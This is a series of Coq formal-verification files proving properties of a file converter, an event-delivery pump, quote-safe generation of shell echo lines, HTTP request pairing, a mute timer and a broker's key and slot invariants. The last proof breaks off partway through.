    negb (is_dot n) && match lookup d n with Some (KReg _) => true | _ => false end.
  Definition fine (n : bytes) : Prop :=
    is_dot n = false -> exists k, In (n, k) d /\ k <> KDangling /\ exists pf, In pf t /\ matches (fst pf) n = true.

  Hypothesis Hnobad : existsb (fun pf => bad (fst pf)) t = false.

  Lemma find_matching n : (exists pf, In pf t /\ matches (fst pf) n = true) ->
    exists pf, find (fun pf => matches (fst pf) n) t = Some pf.
  Proof.
    intros (pf & Hin & Hm). destruct (find (fun pf0 => matches (fst pf0) n) t) as [q|] eqn:E; [exists q; reflexivity|].
    pose proof (find_none _ _ E pf Hin) as Hn. cbn in Hn. congruence.
  Qed.

  Lemma convert_fine L : Forall fine L ->
    convert_files t d L =
    match concat_opt (map (fun n => convert_one t n (content_of d n)) (filter keep L)) with
    | Some b => ROk b | None => RErr 2 end.
  Proof.
    induction 1 as [|n L Hn HL IH]; [reflexivity|].
    cbn [Conv.convert_files filter]. unfold keep at 1. destruct (is_dot n) eqn:Ed; cbn [negb andb]; [exact IH|].
    destruct (Hn Ed) as (k & Hin & Hk & Hpf). rewrite (lookup_In n k Hin).
    destruct k as [c| | |]; try exact IH; [|congruence].
    cbn [map concat_opt]. unfold content_of at 1. rewrite (lookup_In n (KReg c) Hin).
    rewrite (from_reader_first matches bad t n c Hnobad). unfold Conv.convert_one at 1.
    pose proof (Hbase (n, KReg c) Hin) as Hbn. cbn [fst] in Hbn. rewrite Hbn.
    destruct (find_matching n Hpf) as ([p f] & Ef). rewrite Ef.
    destruct (apply_filter f n c) as [b|]; cbn [option_map]; [|reflexivity].
    rewrite IH. destruct (concat_opt _) as [r|]; reflexivity.
  Qed.

  (** ** the kept names are exactly the eligible ones *)
  Hypothesis Hscope : forall n k, In (n, k) d -> is_dot n = false ->
    (exists pf, In pf t /\ matches (fst pf) n = true) -> k <> KDangling.

  Lemma names_fine : Forall fine (file_names t d).
  Proof.
    apply Forall_forall. intros n Hn Hd. apply In_file_names in Hn as (pf & Hpf & Hg).
    apply In_glob in Hg as (k & Hin & Hm & _). exists k. split; [exact Hin|]. split.
    - apply (Hscope n k Hin Hd). exists pf. split; assumption.
    - exists pf. split; assumption.
  Qed.

  Lemma NoDup_map_filter {A B} (f : A -> B) g (l : list A) : NoDup (map f l) -> NoDup (map f (filter g l)).
  Proof.
    induction l as [|x l IH]; intros H; [constructor|]. cbn in H. inversion H as [|? ? Hx Hl]; subst. cbn [filter].
    destruct (g x); [|apply IH, Hl]. cbn. constructor; [|apply IH, Hl].
    intro Hin. apply Hx. apply in_map_iff in Hin as (y & E & Hy). apply filter_In in Hy as [Hy _].
    apply in_map_iff. exists y. split; assumption.
  Qed.

  Lemma kept_are_eligible :
    filter keep (file_names t d) = sort_bytes (map fst (filter (eligible t) d)).
  Proof.
    apply strict_sorted_unique.
    - apply strict_filter, file_names_strict.
    - apply sorted_nodup_strict; [apply sort_sorted|].
      eapply Permutation_NoDup; [symmetry; apply sort_perm|]. apply NoDup_map_filter, Hnodup.
    - intros n. rewrite filter_In, In_sort, in_map_iff. split.
      + intros [Hn Hk]. unfold keep in Hk. apply andb_true_iff in Hk as [Hd Hr]. apply negb_true_iff in Hd.
        destruct (lookup d n) as [[c| | |]|] eqn:El; try discriminate.
        apply lookup_Some in El. exists (n, KReg c). split; [reflexivity|]. apply filter_In. split; [exact El|].
        unfold Conv.eligible. cbn [fst snd]. rewrite Hd. cbn [negb andb].
        apply In_file_names in Hn as (pf & Hpf & Hg). apply In_glob in Hg as (k & _ & Hm & _).
        rewrite andb_true_r. apply existsb_exists. exists pf. split; assumption.
      + intros ([m k] & E & He). cbn in E. subst m. apply filter_In in He as [Hin He].
        unfold Conv.eligible in He. cbn [fst snd] in He. apply andb_true_iff in He as [He Hr]. apply andb_true_iff in He as [Hd Hm].
        apply negb_true_iff in Hd. apply existsb_exists in Hm as (pf & Hpf & Hm).
        destruct k as [c| | |]; try discriminate. split.
        * apply In_file_names. exists pf. split; [exact Hpf|]. apply In_glob. exists (KReg c).
          repeat split; try assumption. right. discriminate.
        * unfold keep. rewrite Hd, (lookup_In n (KReg c) Hin). reflexivity.
  Qed.
End Full.

(** * The statement of the property for a directory *)
Theorem from_dir_is_spec matches bad tab d :
  (forall p n, has_meta p = false -> matches p n = beq p n) ->
  NoDup (map fst d) ->
  Forall (fun e => path_base (fst e) = fst e) d ->
  dir_in_scope matches bad tab d = true ->
  from_dir matches bad tab d =
  match spec_dir matches tab d with Some b => ROk b | None => RErr 2 end.
Proof.
  intros Hmeta Hn Hb Hs. unfold dir_in_scope in Hs. apply andb_true_iff in Hs as [Hs1 Hs2].
  apply negb_true_iff in Hs1, Hs2.
  set (t := sort_table tab).
  assert (Hbad : existsb (fun pf => bad (fst pf)) t = false).
  { rewrite (existsb_perm _ t tab (sort_table_perm tab)). exact Hs1. }
  assert (Hbase : forall e, In e d -> path_base (fst e) = fst e) by (rewrite Forall_forall in Hb; exact Hb).
  assert (Hscope : forall n k, In (n, k) d -> is_dot n = false ->
            (exists pf, In pf t /\ matches (fst pf) n = true) -> k <> KDangling).
  { intros n k Hin Hd (pf & Hpf & Hm) Ek. subst k.
    assert (existsb (fun e => negb (is_dot (fst e)) && existsb (fun pf0 => matches (fst pf0) (fst e)) tab &&
                              match snd e with KDangling => true | _ => false end) d = true); [|congruence].
    apply existsb_exists. exists (n, KDangling). split; [exact Hin|]. cbn [fst snd]. rewrite Hd. cbn [negb andb].
    rewrite andb_true_r. apply existsb_exists. exists pf. split; [|exact Hm].
    eapply Permutation_in; [apply sort_table_perm | exact Hpf]. }
  unfold from_dir. fold t. rewrite Hbad.
  rewrite (convert_fine matches bad d Hn Hbase t Hbad _ (names_fine matches Hmeta d t Hscope)).
  rewrite (kept_are_eligible matches Hmeta d Hn t).
  unfold spec_dir. fold t. reflexivity.
Qed.

(** * Ineligible entries are inert *)
(** Two directories with the same eligible entries (regular, matching, not
    dot-files — same names, same contents) give the same payload, whatever else
    they contain: sub-directories, non-matching names, dot-files (dangling or
    not), special files contribute nothing and cannot make the conversion fail. *)
Theorem ineligible_inert matches bad tab d1 d2 :
  (forall p n, has_meta p = false -> matches p n = beq p n) ->
  NoDup (map fst d1) -> NoDup (map fst d2) ->
  Forall (fun e => path_base (fst e) = fst e) d1 -> Forall (fun e => path_base (fst e) = fst e) d2 ->
  dir_in_scope matches bad tab d1 = true -> dir_in_scope matches bad tab d2 = true ->
  (forall e, eligible matches (sort_table tab) e = true -> (In e d1 <-> In e d2)) ->
  from_dir matches bad tab d1 = from_dir matches bad tab d2.
Proof.
  intros Hmeta Hn1 Hn2 Hb1 Hb2 Hs1 Hs2 Hsame.
  rewrite (from_dir_is_spec matches bad tab d1 Hmeta Hn1 Hb1 Hs1), (from_dir_is_spec matches bad tab d2 Hmeta Hn2 Hb2 Hs2).
  unfold spec_dir. set (t := sort_table tab) in *.
  assert (Hnames : sort_bytes (map fst (filter (eligible matches t) d1)) = sort_bytes (map fst (filter (eligible matches t) d2))).
  { apply strict_sorted_unique.
    - apply sorted_nodup_strict; [apply sort_sorted|]. eapply Permutation_NoDup; [symmetry; apply sort_perm|].
      apply NoDup_map_filter, Hn1.
    - apply sorted_nodup_strict; [apply sort_sorted|]. eapply Permutation_NoDup; [symmetry; apply sort_perm|].
      apply NoDup_map_filter, Hn2.
    - intros n. rewrite !In_sort, !in_map_iff. split; intros (e & E & He); exists e; (split; [exact E|]);
        apply filter_In in He as [Hin Hel]; apply filter_In; (split; [apply (Hsame e Hel); exact Hin | exact Hel]). }
  rewrite <- Hnames.
  assert (Hc : forall n, In n (sort_bytes (map fst (filter (eligible matches t) d1))) -> content_of d1 n = content_of d2 n).
  { intros n Hin. apply (proj1 (In_sort _ _)) in Hin. apply in_map_iff in Hin as ([m k] & E & He). cbn in E. subst m.
    apply filter_In in He as [Hin Hel]. assert (Hin2 : In (n, k) d2) by (apply (Hsame (n, k) Hel); exact Hin).
    unfold content_of. rewrite (lookup_In_gen d1 n k Hn1 Hin), (lookup_In_gen d2 n k Hn2 Hin2). reflexivity. }
  rewrite (map_ext_in _ (fun n => convert_one matches t n (content_of d2 n))); [reflexivity|].
  intros n Hin. rewrite (Hc n Hin). reflexivity.
Qed.
