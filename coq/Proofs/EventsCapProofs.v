(** C04: with blocking sends no registered listener ever misses an event, however small its channel
    and however late it reads; the "best effort" pump is refuted. *)
From Coq Require Import List NArith Bool Lia.
From CRS Require Import Model.EventsCap.
Import ListNotations.
Open Scope N_scope.

Definition CInv (s : cst) : Prop := Forall (complete (c_done s)) (c_ls s).

Lemma skipn_snoc {A} n (l : list A) x : (n <= length l)%nat -> skipn n (l ++ [x]) = skipn n l ++ [x].
Proof. intros H. rewrite skipn_app. replace (n - length l)%nat with 0%nat by lia. reflexivity. Qed.

Lemma complete_put done e l : complete done l -> complete (done ++ [e]) (put e l).
Proof.
  intros [H1 H2]. split; cbn [put l_got l_box l_from].
  - rewrite app_assoc, H1. symmetry. apply skipn_snoc. exact H2.
  - rewrite app_length. cbn. lia.
Qed.

Lemma complete_take done l : complete done l -> complete done (take l).
Proof.
  intros [H1 H2]. unfold take. destruct (l_box l) as [|e r] eqn:E; [split; [rewrite E|]; assumption|].
  split; cbn [l_got l_box l_from]; [|exact H2]. rewrite <- app_assoc. exact H1.
Qed.

Lemma CInv_step s o : CInv s -> CInv (cstep s o).
Proof.
  unfold CInv. intros H. destruct o as [e| |k cap|k|k]; cbn [cstep].
  - exact H.
  - destruct (c_q s) as [|e r]; [exact H|]. destruct (forallb has_room (c_ls s)); [|exact H].
    cbn [c_done c_ls]. apply Forall_map. eapply Forall_impl; [|exact H]. intros l Hl. apply complete_put. exact Hl.
  - destruct (existsb (is_id k) (c_ls s)); [exact H|]. cbn [c_done c_ls]. apply Forall_app. split; [exact H|].
    constructor; [|constructor]. split; cbn; [rewrite skipn_all; reflexivity | lia].
  - cbn [c_done c_ls]. apply Forall_forall. intros l Hl. apply filter_In in Hl. destruct Hl as [Hl _].
    rewrite Forall_forall in H. apply H. exact Hl.
  - cbn [c_done c_ls]. apply Forall_map. eapply Forall_impl; [|exact H]. intros l Hl.
    destruct (is_id k l); [apply complete_take|]; exact Hl.
Qed.

Theorem nobody_misses_an_event ops : CInv (crun cinit ops).
Proof.
  assert (forall s, CInv s -> CInv (crun s ops)) as G.
  { induction ops as [|o ops IH]; intros s H; [exact H|]. cbn [crun fold_left]. apply IH. apply CInv_step. exact H. }
  apply G. constructor.
Qed.

(** a listener which keeps taking ends up having RECEIVED everything: its channel empties *)
Lemma take_all l : l_box (fold_left (fun x _ => take x) (l_box l) l) = [] /\
                   l_got (fold_left (fun x _ => take x) (l_box l) l) = l_got l ++ l_box l.
Proof.
  remember (l_box l) as b eqn:Eb. revert l Eb. induction b as [|e r IH]; intros l Eb.
  - cbn. rewrite <- Eb, app_nil_r. split; reflexivity.
  - cbn [fold_left]. assert (l_box (take l) = r) as Hr by (unfold take; rewrite <- Eb; reflexivity).
    assert (l_got (take l) = l_got l ++ [e]) as Hg by (unfold take; rewrite <- Eb; reflexivity).
    destruct (IH (take l) (eq_sym Hr)) as [A B]. split; [exact A|]. rewrite B, Hg, <- app_assoc. reflexivity.
Qed.

(** the best-effort pump loses the disconnected event of a shell for a listener with a channel of one *)
Theorem dropping_pump_refuted :
  exists ops, let s := fold_left cstep_drop ops cinit in
    c_done s = [0; 1] /\ map (fun l => l_got l ++ l_box l) (c_ls s) = [[0]].
Proof. exists [CAdd 7 1; CEmit 0; CEmit 1; CProc; CProc; CTake 7]. vm_compute. split; reflexivity. Qed.

Example blocking_example :
  let s := crun cinit [CAdd 7 1; CEmit 0; CEmit 1; CProc; CProc; CTake 7; CProc; CTake 7] in
  c_done s = [0; 1] /\ map l_got (c_ls s) = [[0; 1]].
Proof. vm_compute. split; reflexivity. Qed.

Example cplan_example : cplan_windows [(2, 1%nat); (0, 1024%nat); (600, 1%nat)] = [[0; 1]; [0; 1]; [0; 1]].
Proof. vm_compute. reflexivity. Qed.
