(** C18: the generated tab_list function is quote-safe for every payload. *)
From CRS Require Import Lib.Bytes Lib.Utf8 Lib.Sort Lib.Split Lib.ShLex Model.FuncList.
Open Scope N_scope.

Lemma rows_no_nl s : Forall (fun r => ~ In 10 r) (rows s).
Proof.
  unfold rows. rewrite Forall_forall. intros r Hr.
  apply In_compact, In_sort_bytes in Hr. apply filter_In in Hr as [Hr _].
  pose proof (split_on_pieces 10
    (concat (map (fun c => fmt_row (col_width (cells s)) c ++ [10]) (cells s)))) as H.
  rewrite Forall_forall in H. apply H. exact Hr.
Qed.

Lemma sq_escape_no_nl r : ~ In 10 r -> ~ In 10 (sq_escape r).
Proof.
  induction r as [|x r IH]; intros Hn; [intros []|].
  unfold sq_escape in *. destruct (x =? 39) eqn:E.
  - cbn [app]. intros [H|[H|[H|[H|H]]]]; try discriminate.
    apply IH; [intro; apply Hn; right; assumption | exact H].
  - intros [H|H]; [apply Hn; left; exact H|].
    apply IH; [intro; apply Hn; right; assumption | exact H].
Qed.

Definition echo_body (row : bytes) : bytes := txt "        echo '" ++ sq_escape row ++ [39].

Lemma echo_line_eq row : echo_line row = echo_body row ++ [10].
Proof. unfold echo_line, echo_body. rewrite <- !app_assoc. reflexivity. Qed.

Lemma echo_body_no_nl row : ~ In 10 row -> ~ In 10 (echo_body row).
Proof.
  intros Hn. unfold echo_body. intros H.
  apply in_app_or in H as [H|H].
  - cbn in H. repeat (destruct H as [H|H]; [discriminate|]). exact H.
  - apply in_app_or in H as [H|H]; [exact (sq_escape_no_nl row Hn H)|].
    destruct H as [H|[]]. discriminate.
Qed.

Lemma echo_arg_body row : echo_arg (echo_body row) = Some row.
Proof.
  unfold echo_arg, echo_body. rewrite sh_lex_quoted_word. rewrite beq_refl. reflexivity.
Qed.

Lemma split_body rs tail : Forall (fun r => ~ In 10 r) rs ->
  split_on 10 (concat (map echo_line rs) ++ tail) = map echo_body rs ++ split_on 10 tail.
Proof.
  induction 1 as [|r rs Hr Hrs IH]; [reflexivity|].
  cbn [map concat]. rewrite echo_line_eq, <- !app_assoc. cbn [app].
  rewrite split_on_app_sep by (apply echo_body_no_nl; exact Hr).
  rewrite IH. reflexivity.
Qed.

Lemma all_some_echo rs : all_some (map echo_arg (map echo_body rs)) = Some rs.
Proof.
  induction rs as [|r rs IH]; [reflexivity|].
  cbn [map all_some]. rewrite echo_arg_body, IH. reflexivity.
Qed.

(** Whatever the payload, the generated text is the function header, one
    [echo '<literal>'] command per row carrying exactly that row as its single
    argument word, and the closing brace: nothing in a TABDOC line can end the
    quoting, run as shell code, or alter another row. *)
Theorem gen_func_list_quote_safe s : parse_func (gen_func_list s) = Some (rows s).
Proof.
  unfold parse_func, gen_func_list.
  assert (Hhead : ~ In 10 (ListFuncName ++ txt "() {")).
  { cbn. intros H. repeat (destruct H as [H|H]; [discriminate|]). exact H. }
  replace (ListFuncName ++ txt "() {" ++ [10] ++ concat (map echo_line (rows s)) ++ txt "}" ++ [10])
    with ((ListFuncName ++ txt "() {") ++ 10 :: (concat (map echo_line (rows s)) ++ txt "}" ++ [10]))
    by (repeat rewrite <- app_assoc; reflexivity).
  rewrite split_on_app_sep by exact Hhead.
  rewrite beq_refl.
  rewrite split_body by apply rows_no_nl.
  change (split_on 10 (txt "}" ++ [10])) with [txt "}"; []].
  rewrite rev_app_distr. cbn [rev app].
  rewrite beq_refl. rewrite rev_involutive. apply all_some_echo.
Qed.

