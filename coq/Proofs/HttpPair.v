From CRS Require Import Lib.Bytes Lib.Pct Model.Broker Model.HttpIds.
Open Scope N_scope.

(** Two requests /i/{a}, /o/{b} (in either order) on an idle server pair up
    exactly when the percent-decoded path elements are the same bytes -
    computed through the broker model's two admissions; nothing else (case,
    surrounding blanks, a common prefix) is normalised away. *)
Theorem http_pair_iff a b fi :
  pct_decode a <> [] ->
  http_pairs a b fi = beq (pct_decode a) (pct_decode b).
Proof.
  intros Ha. unfold http_pairs, http_key.
  destruct (pct_decode a) as [|x ka] eqn:Ea; [congruence|]. clear Ha.
  destruct (pct_decode b) as [|y kb] eqn:Eb.
  - destruct fi; vm_compute; reflexivity.
  - destruct (beq (x :: ka) (y :: kb)) eqn:E.
    + apply beq_eq in E. inversion E; subst y kb.
      destruct fi; cbv -[beq]; rewrite beq_refl; reflexivity.
    + assert (E2 : beq (y :: kb) (x :: ka) = false).
      { destruct (beq (y :: kb) (x :: ka)) eqn:F; [|reflexivity]. apply beq_eq in F. rewrite F, beq_refl in E. discriminate. }
      destruct fi; cbv -[beq]; rewrite E2; reflexivity.
Qed.
