(** C19: the mute machine. *)
From CRS Require Import Lib.Bytes Model.Mute.
Open Scope Z_scope.

(** While muted the timer is armed for exactly [pause] after the last
    Ctrl+O / dropped output; while not muted no timer is pending. *)
Definition MInv (s : mst) : Prop :=
  (silenced s = true -> exists l, last s = Some l /\ timer s = Some (l + pause)) /\
  (silenced s = false -> timer s = None).

Lemma MInv_init : MInv minit.
Proof. split; [discriminate | reflexivity]. Qed.

(** Muting ends by itself, exactly when [pause] has elapsed: no input needed. *)
Lemma advance_muted s l now : silenced s = true -> last s = Some l -> timer s = Some (l + pause) ->
  (now < l + pause -> advance 3 s now = (s, [])) /\
  (l + pause <= now -> advance 3 s now = ({| silenced := false; last := Some l; timer := None |}, [AnnUnmuting])).
Proof.
  intros Hs Hl Ht. split; intros H.
  - cbn [advance]. rewrite Ht. assert ((l + pause <=? now) = false) as -> by (apply Z.leb_gt; lia). reflexivity.
  - cbn [advance]. rewrite Ht. assert ((l + pause <=? now) = true) as -> by (apply Z.leb_le; lia).
    unfold fire. rewrite Hl.
    assert ((l + pause - l <? pause) = false) as -> by (apply Z.ltb_ge; lia).
    cbn. reflexivity.
Qed.

Lemma advance_unmuted s now : MInv s -> silenced s = false -> advance 3 s now = (s, []).
Proof. intros [_ H] Hs. cbn [advance]. rewrite (H Hs). reflexivity. Qed.

Lemma MInv_advance s now : MInv s -> MInv (fst (advance 3 s now)).
Proof.
  intros HI. destruct (silenced s) eqn:Hs.
  - destruct HI as [H1 _]. destruct (H1 Hs) as (l & Hl & Ht).
    destruct (advance_muted s l now Hs Hl Ht) as [A B].
    destruct (Z_lt_le_dec now (l + pause)) as [C|C].
    + rewrite (A C). cbn. split; [intros _; exists l; split; assumption | congruence].
    + rewrite (B C). cbn. split; [discriminate | reflexivity].
  - rewrite (advance_unmuted s now HI Hs). exact HI.
Qed.

Lemma MInv_handle s now e : MInv s -> MInv (fst (handle s now e)).
Proof.
  intros HI. destruct e; cbn [handle]; try exact HI.
  - destruct (silenced s) eqn:Hs; [exact HI|]. cbn. split; [intros _; eexists; split; reflexivity | discriminate].
  - destruct (silenced s) eqn:Hs; [|exact HI]. cbn. split; [intros _; eexists; split; reflexivity | discriminate].
Qed.

Lemma MInv_mstep s te : MInv s -> MInv (fst (mstep s te)).
Proof.
  intros HI. destruct te as [now e]. unfold mstep.
  pose proof (MInv_advance s now HI) as H1. destruct (advance 3 s now) as [s1 o1]. cbn [fst] in H1.
  pose proof (MInv_handle s1 now e H1) as H2. destruct (handle s1 now e) as [s2 o2]. exact H2.
Qed.

Lemma MInv_mrun_from es : forall s, MInv s -> MInv (fst (mrun_from s es)).
Proof.
  induction es as [|te es IH]; intros s HI; [exact HI|]. cbn [mrun_from].
  pose proof (MInv_mstep s te HI) as H1. destruct (mstep s te) as [s1 o]. cbn [fst] in H1.
  specialize (IH s1 H1). destruct (mrun_from s1 es) as [s2 os]. exact IH.
Qed.

(** Status and log lines are written in every state, at every time. *)
Lemma status_always s now : snd (snd (mstep s (now, Status))) = [Wrote].
Proof. unfold mstep. destruct (advance 3 s now) as [s1 o1]. reflexivity. Qed.

(** Shell output: dropped iff muted at that instant (after the timers due). *)
Lemma plain_dropped_iff_muted s now :
  snd (snd (mstep s (now, Plain))) = if silenced (fst (advance 3 s now)) then [Dropped] else [Wrote].
Proof. unfold mstep. destruct (advance 3 s now) as [s1 o1]. cbn. destruct (silenced s1); reflexivity. Qed.

(** The muted interval in closed form: in a muted state whose last Ctrl+O /
    dropped output was at [l], output arriving at [now] is dropped iff
    [now < l + pause]; then the calm window restarts at [now].  Otherwise the
    mute has ended by itself ('Unmuting' announced first) and it is written. *)
Lemma plain_while_muted s l now : silenced s = true -> last s = Some l -> timer s = Some (l + pause) ->
  (now < l + pause ->
     mstep s (now, Plain) = ({| silenced := true; last := Some now; timer := Some (now + pause) |}, ([], [Dropped]))) /\
  (l + pause <= now ->
     mstep s (now, Plain) = ({| silenced := false; last := Some l; timer := None |}, ([AnnUnmuting], [Wrote]))).
Proof.
  intros Hs Hl Ht. destruct (advance_muted s l now Hs Hl Ht) as [A B]. split; intros H; unfold mstep.
  - rewrite (A H). cbn. rewrite Hs. reflexivity.
  - rewrite (B H). reflexivity.
Qed.

(** A repeated Ctrl+O while muted changes nothing (it neither extends nor shortens the mute). *)
Lemma ctrl_o_while_muted s now : silenced s = true -> handle s now CtrlO = (s, [AnnAlready]).
Proof. intros H. cbn. rewrite H. reflexivity. Qed.

(** Muting starts only with Ctrl+O. *)
Lemma only_ctrl_o_mutes s now e : silenced s = false -> silenced (fst (handle s now e)) = true -> e = CtrlO.
Proof. intros H. destruct e; cbn; rewrite ?H; cbn; congruence. Qed.

(** Without Ctrl+O nothing is ever suppressed. *)
Definition no_ctrl_o (es : list (Z * mev)) : Prop := Forall (fun te => snd te <> CtrlO) es.
Definition never_dropped (os : list (list mout * list mout)) : Prop :=
  Forall (fun o => ~ In Dropped (snd o) /\ ~ In AnnMuting (snd o)) os.

Lemma never_suppressed_from es : forall s, MInv s -> silenced s = false -> no_ctrl_o es ->
  never_dropped (snd (mrun_from s es)) /\ silenced (fst (mrun_from s es)) = false.
Proof.
  induction es as [|[now e] es IH]; intros s HI Hs Hn; [split; [constructor | exact Hs]|].
  inversion Hn as [|? ? He Hes]; subst. cbn [mrun_from]. unfold mstep.
  rewrite (advance_unmuted s now HI Hs).
  assert (Hh : fst (handle s now e) = s /\ ~ In Dropped (snd (handle s now e)) /\ ~ In AnnMuting (snd (handle s now e))).
  { destruct e; cbn in *; rewrite ?Hs; cbn; try (repeat split; intros [H|[]]; discriminate).
    - congruence.
    - repeat split; intros []. }
  destruct (handle s now e) as [s2 o2]. cbn [fst snd] in Hh. destruct Hh as (-> & H1 & H2).
  specialize (IH s HI Hs Hes). destruct (mrun_from s es) as [s3 os]. cbn [fst snd] in *.
  destruct IH as [IH1 IH2]. split; [constructor; [split; assumption | exact IH1] | exact IH2].
Qed.
