(** Invariants of the broker model (C01, C04, C06). *)
From CRS Require Import Lib.Bytes Model.Broker.
Open Scope N_scope.

(** * Keys *)
Lemma key_eqb_eq a b : key_eqb a b = true <-> a = b.
Proof.
  destruct a as [x|r], b as [y|r']; cbn; split; intro H; try discriminate; try congruence.
  - apply beq_eq in H. congruence.
  - inversion H; subst. apply beq_refl.
  - apply N.eqb_eq in H. congruence.
  - inversion H; subst. apply N.eqb_refl.
Qed.
Lemma key_eqb_refl a : key_eqb a a = true.
Proof. apply key_eqb_eq. reflexivity. Qed.

(** * What the proxies cannot touch: key, slots, shutdown flag *)
Definition slots (s : bst) := (bkey s, cin s, cout s, nomore s).

Lemma slots_upd s x : slots (upd s x) = slots s.            Proof. reflexivity. Qed.
Lemma slots_set_queue s q : slots (set_queue s q) = slots s. Proof. reflexivity. Qed.
Lemma slots_add s id d p : slots (add_stream s id d p) = slots s. Proof. reflexivity. Qed.
Lemma slots_finish s x e : slots (fst (finish s x e)) = slots s. Proof. reflexivity. Qed.

Lemma slots_deliver fuel : forall s x, slots (fst (deliver fuel s x)) = slots s.
Proof.
  induction fuel as [|f IH]; intros s x; [reflexivity|].
  cbn [deliver]. destruct (queue s) as [|l q]; [reflexivity|].
  destruct (optN_eqb (sd_wfail (st_d x)) (st_nw x)).
  - reflexivity.
  - destruct (sd_wk (st_d x)).
    + match goal with |- context [deliver f ?a ?b] => specialize (IH a b); destruct (deliver f a b) as [s2 o] end.
      cbn [fst] in *. rewrite IH. reflexivity.
    + match goal with |- context [if ?c then _ else _] => destruct c end; [reflexivity|].
      match goal with |- context [deliver f ?a ?b] => specialize (IH a b); destruct (deliver f a b) as [s2 o] end.
      cbn [fst] in *. rewrite IH. reflexivity.
    + match goal with |- context [if ?c then _ else _] => destruct c end; [reflexivity|].
      match goal with |- context [deliver f ?a ?b] => specialize (IH a b); destruct (deliver f a b) as [s2 o] end.
      cbn [fst] in *. rewrite IH. reflexivity.
    + match goal with |- context [if ?c then _ else _] => destruct c end; [reflexivity|].
      match goal with |- context [deliver f ?a ?b] => specialize (IH a b); destruct (deliver f a b) as [s2 o] end.
      cbn [fst] in *. rewrite IH. reflexivity.
Qed.

Lemma slots_pump_in s id : slots (fst (pump_in s id)) = slots s.
Proof.
  unfold pump_in. destruct (get s id) as [x|]; [|reflexivity].
  destruct (st_ph x); try reflexivity.
  pose proof (slots_deliver (S (length (queue s))) s x) as H.
  destruct (deliver (S (length (queue s))) s x) as [s1 o1]. cbn [fst] in H.
  destruct (get s1 id) as [x1|]; [|exact H].
  destruct (st_ph x1); try exact H.
  destruct (queue s1); [|exact H]. destruct (ich_closed s1); [|exact H].
  cbn. exact H.
Qed.

Lemma slots_cancel_one s id : slots (fst (cancel_one s id)) = slots s.
Proof.
  unfold cancel_one. destruct (get s id) as [x|]; [|reflexivity].
  destruct (st_ph x); reflexivity.
Qed.

(** * The invariant on key and slots *)
Definition slot_good (d : dir) (v : option (N * sdesc)) : Prop :=
  forall id sd, v = Some (id, sd) -> sd_dir sd = d /\ key_missing (sd_key sd) = false.
Definition key_good (k : option key) (v : option (N * sdesc)) : Prop :=
  forall kk id sd, k = Some kk -> v = Some (id, sd) -> sd_key sd = kk.

Record Inv (s : bst) : Prop := {
  i_in : slot_good DIn (cin s);
  i_out : slot_good DOut (cout s);
  i_kin : key_good (bkey s) (cin s);
  i_kout : key_good (bkey s) (cout s);
  i_idle : cin s = None -> cout s = None -> bkey s = None;
  i_both : cin s <> None -> cout s <> None -> bkey s <> None
}.

Lemma Inv_slots s s' : slots s' = slots s -> Inv s -> Inv s'.
Proof.
  unfold slots. intros E [H1 H2 H3 H4 H5 H6]. inversion E as [[E1 E2 E3 E4]].
  constructor; rewrite ?E1, ?E2, ?E3; assumption.
Qed.

Lemma Inv_init : Inv init.
Proof. constructor; cbn; intros; try discriminate; try reflexivity; congruence. Qed.

(** ** Admission *)
Lemma Inv_admission s x : Inv s -> Inv (fst (admission s x)).
Proof.
  intros HI. unfold admission.
  destruct (nomore s); [apply (Inv_slots s); [reflexivity | exact HI]|].
  destruct (key_missing (sd_key (st_d x))) eqn:Ekm; [apply (Inv_slots s); [reflexivity | exact HI]|].
  match goal with |- context [if ?c then refuse _ _ LTeardown else _] => destruct c eqn:Etd end;
    [apply (Inv_slots s); [reflexivity | exact HI]|].
  match goal with |- context [if ?c then refuse _ _ LDup else _] => destruct c eqn:Edup end;
    [apply (Inv_slots s); [reflexivity | exact HI]|].
  match goal with |- context [if ?c then refuse _ _ LBadKey else _] => destruct c eqn:Ebk end;
    [apply (Inv_slots s); [reflexivity | exact HI]|].
  (* attach *)
  set (d := sd_dir (st_d x)) in *. set (k := sd_key (st_d x)) in *.
  set (s1 := set_key (set_slot (upd s (set_phase x PAttached)) d (Some (st_id x, st_d x))) (Some k)).
  assert (H1 : Inv s1).
  { destruct HI as [H1 H2 H3 H4 H5 H6].
    assert (Hk : forall kk, bkey s = Some kk -> k = kk).
    { intros kk E. rewrite E in Ebk. apply negb_false_iff, key_eqb_eq in Ebk. exact Ebk. }
    assert (Hother : slot s (other d) <> None -> bkey s <> None).
    { intros Hn E. rewrite E in Etd. cbn in Etd.
      destruct d; cbn in Hn, Edup.
      - destruct (cin s); [discriminate|]. destruct (cout s); [discriminate | congruence].
      - destruct (cout s); [discriminate|]. destruct (cin s); [discriminate | congruence]. }
    destruct d eqn:Ed; subst s1; constructor; cbn.
    - intros id sd E. inversion E; subst. split; [exact Ed | exact Ekm].
    - exact H2.
    - intros kk id sd E1 E2. inversion E1; inversion E2; subst. reflexivity.
    - intros kk id sd E1 E2. inversion E1; subst kk.
      destruct (bkey s) as [k'|] eqn:Eb.
      + rewrite (Hk k' eq_refl). eapply H4; [reflexivity | exact E2].
      + exfalso. apply Hother; [cbn; rewrite E2; discriminate | reflexivity].
    - intros E. discriminate.
    - intros _ _. discriminate.
    - exact H1.
    - intros id sd E. inversion E; subst. split; [exact Ed | exact Ekm].
    - intros kk id sd E1 E2. inversion E1; subst kk.
      destruct (bkey s) as [k'|] eqn:Eb.
      + rewrite (Hk k' eq_refl). eapply H3; [reflexivity | exact E2].
      + exfalso. apply Hother; [cbn; rewrite E2; discriminate | reflexivity].
    - intros kk id sd E1 E2. inversion E1; inversion E2; subst. reflexivity.
    - intros _ E. discriminate.
    - intros _ _. discriminate. }
  destruct d eqn:Ed.
  - match goal with |- context [pump_in ?a ?b] =>
      pose proof (slots_pump_in a b) as Hp; destruct (pump_in a b) as [s2 o2] end.
    cbn [fst] in *. apply (Inv_slots s1); [exact Hp | exact H1].
  - exact H1.
Qed.

(** ** Release *)
Lemma Inv_release s x : Inv s -> Inv (fst (release s x)).
Proof.
  intros [H1 H2 H3 H4 H5 H6]. unfold release.
  set (d := sd_dir (st_d x)).
  set (s1 := set_slot (set_key (upd s (set_phase x PDone)) None) d None).
  assert (HI1 : Inv s1).
  { subst s1. destruct d; constructor; cbn; try assumption;
      try (intros ? ? ? E; discriminate); try (intros; reflexivity); try (intros E; congruence);
      try (intros E1 E2; congruence). }
  destruct (slot s1 (other d)) as [[p pd]|] eqn:Es.
  - match goal with |- context [get ?a p] => destruct (get a p) as [px|] end.
